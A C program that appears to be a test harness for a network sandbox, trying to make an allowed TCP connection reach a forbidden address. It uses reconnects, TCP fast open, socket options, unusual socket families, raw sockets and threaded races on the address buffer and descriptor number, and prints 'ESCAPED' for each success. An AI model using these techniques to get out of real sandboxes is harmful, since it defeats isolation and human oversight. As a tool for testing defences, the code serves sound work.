// cc: -pthread
/* Ways to make a connection that was allowed serve for another. Arguments: an address that may be reached and one that may
   not, with a server on port 80 of each. Prints a line for what was tried; each attempt that reaches the other address prints "ESCAPED". */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static struct sockaddr_in allowed, other;

static int reaches_other(int fd) {
    struct sockaddr_in peer;
    socklen_t length = sizeof peer;
    return getpeername(fd, (struct sockaddr *)&peer, &length) == 0 &&
           peer.sin_family == AF_INET && peer.sin_addr.s_addr == other.sin_addr.s_addr;
}

static int connected(void) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&allowed, sizeof allowed)) {
        perror("connect");
        exit(1);
    }
    return fd;
}

static void tell(const char *what, int fd, int result) {
    int why = errno;
    if (fd >= 0 && reaches_other(fd)) printf("ESCAPED by %s\n", what);
    else printf("%s: %s\n", what, result < 0 ? strerrorname_np(why) : "done");
}

static void disconnect(int fd) {
    struct sockaddr none = {.sa_family = AF_UNSPEC};
    connect(fd, &none, sizeof none);
}

/* Whether a socket belongs to another network than the sandbox's own. */
static int is_outside(int fd) {
    unsigned long long cookie = 0, own = 0;
    socklen_t length = sizeof cookie;
    int fresh = socket(AF_INET, SOCK_STREAM, 0);
#ifndef SO_NETNS_COOKIE
#define SO_NETNS_COOKIE 71
#endif
    getsockopt(fd, SOL_SOCKET, SO_NETNS_COOKIE, &cookie, &length);
    getsockopt(fresh, SOL_SOCKET, SO_NETNS_COOKIE, &own, &length);
    close(fresh);
    return cookie != own;
}

static union { struct sockaddr_in in; struct sockaddr_un un; char bytes[128]; } shared;
static volatile int stop, number;

/* The address of a call changes all the time, and what the number stands for. */
static void *flip(void *unused) {
    struct sockaddr_in addresses[2] = {allowed, other};
    for (int i = 0; !stop; i++) memcpy(&shared, &addresses[i & 1], sizeof allowed);
    return unused;
}

static void *flip_family(void *unused) {
    struct sockaddr_un un = {.sun_family = AF_UNIX, .sun_path = "none"};
    struct sockaddr none = {.sa_family = AF_UNSPEC};
    for (int i = 0; !stop; i++) {
        if (i % 3 == 0) memcpy(&shared, &un, sizeof un);
        else if (i % 3 == 1) memcpy(&shared, &none, sizeof none);
        else memcpy(&shared, &other, sizeof other);
    }
    return unused;
}

static int ends[2];
static void *flip_number(void *unused) {
    while (!stop) {
        dup2(ends[0], number);
        dup2(ends[1], number);
    }
    return unused;
}

static void race_address(void) {
    pthread_t thread;
    pthread_create(&thread, 0, flip, 0);
    int reached = 0;
    for (int i = 0; i < 100; i++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(fd, (struct sockaddr *)&shared, sizeof allowed) == 0) reached |= 1 + reaches_other(fd);
        close(fd);
    }
    stop = 1;
    pthread_join(thread, 0);
    stop = 0;
    printf("%s\n", reached & 2 ? "ESCAPED by a change of the address" : "address: only the allowed one");
}

/* A connect of a unix socket goes on in the kernel: meanwhile its number stands for a connection of the host's network. */
static void race_number(void) {
    pthread_t threads[2];
    number = 200;
    ends[0] = socket(AF_UNIX, SOCK_STREAM, 0);
    ends[1] = connected();
    dup2(ends[0], number);
    pthread_create(&threads[0], 0, flip_family, 0);
    pthread_create(&threads[1], 0, flip_number, 0);
    int escaped = 0;
    for (int i = 0; i < 300 && !escaped; i++) {
        connect(number, (struct sockaddr *)&shared, sizeof(struct sockaddr_un));
        listen(number, 1);
        int on = 0;
        socklen_t length = sizeof on;
        if (reaches_other(ends[1])) escaped = 1;
        if (!is_outside(ends[1])) {
            /* Its connection was ended, and the sandbox's own network has it now. */
            int fresh = connected();
            dup2(fresh, ends[1]);
            close(fresh);
        } else if (getsockopt(ends[1], SOL_SOCKET, SO_ACCEPTCONN, &on, &length) == 0 && on) {
            escaped = 1;
        }
    }
    stop = 1;
    pthread_join(threads[0], 0);
    pthread_join(threads[1], 0);
    stop = 0;
    printf("%s\n", escaped ? "ESCAPED by a change of the number" : "number: nothing reached");
}

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    allowed = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(80)};
    other = allowed;
    inet_aton(argv[1], &allowed.sin_addr);
    inet_aton(argv[2], &other.sin_addr);

    int fd = connected();
    disconnect(fd);
    tell("reconnect", fd, connect(fd, (struct sockaddr *)&other, sizeof other));
    fd = connected();
    tell("listen", -1, listen(fd, 1));
    disconnect(fd);
    listen(fd, 1);
    struct sockaddr_in name;
    socklen_t length = sizeof name;
    getsockname(fd, (struct sockaddr *)&name, &length);
    /* What listens is a socket of the sandbox's own network, to which this comes. */
    int second = socket(AF_INET, SOCK_STREAM, 0);
    name.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    tell("own loopback", -1, connect(second, (struct sockaddr *)&name, sizeof name));
    fd = connected();
    disconnect(fd);
    tell("fast open", fd, sendto(fd, "x", 1, MSG_FASTOPEN, (struct sockaddr *)&other, sizeof other));
    fd = socket(AF_INET, SOCK_STREAM, 0);
    tell("fresh fast open", fd, sendto(fd, "x", 1, MSG_FASTOPEN, (struct sockaddr *)&other, sizeof other));
    int on = 1;
    fd = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on);
    int result = connect(fd, (struct sockaddr *)&other, sizeof other);
    if (result == 0) result = write(fd, "x", 1);
    tell("fast open by connect", fd, result);
    fd = connected();
    struct iovec piece = {"x", 1};
    struct msghdr message = {.msg_name = &other, .msg_namelen = sizeof other, .msg_iov = &piece, .msg_iovlen = 1};
    disconnect(fd);
    tell("sendmsg", fd, sendmsg(fd, &message, MSG_FASTOPEN));
    struct mmsghdr several[2] = {{message, 0}, {message, 0}};
    tell("sendmmsg", fd, sendmmsg(fd, several, 2, MSG_FASTOPEN));
    fd = connected();
    tell("repair", -1, setsockopt(fd, IPPROTO_TCP, TCP_REPAIR, &on, sizeof on));
    tell("mark", -1, setsockopt(fd, SOL_SOCKET, SO_MARK, &on, sizeof on));
    tell("source route", -1, setsockopt(fd, IPPROTO_IP, IP_OPTIONS, "\x83\x07\x04\x01\x02\x03\x04", 7));
    tell("bind", -1, bind(fd, (struct sockaddr *)&other, sizeof other));
    for (int family = 0; family < 46; family++) {
        if (family == AF_UNIX || family == AF_INET || family == AF_INET6 || family == AF_NETLINK) continue;
        fd = socket(family, SOCK_DGRAM, 0);
        if (fd < 0) fd = socket(family, SOCK_STREAM, 0);
        if (fd >= 0) printf("ESCAPED: a socket of family %d\n", family);
    }
    tell("raw", -1, socket(AF_INET, SOCK_RAW, IPPROTO_TCP));
    race_address();
    race_number();
    return 0;
}
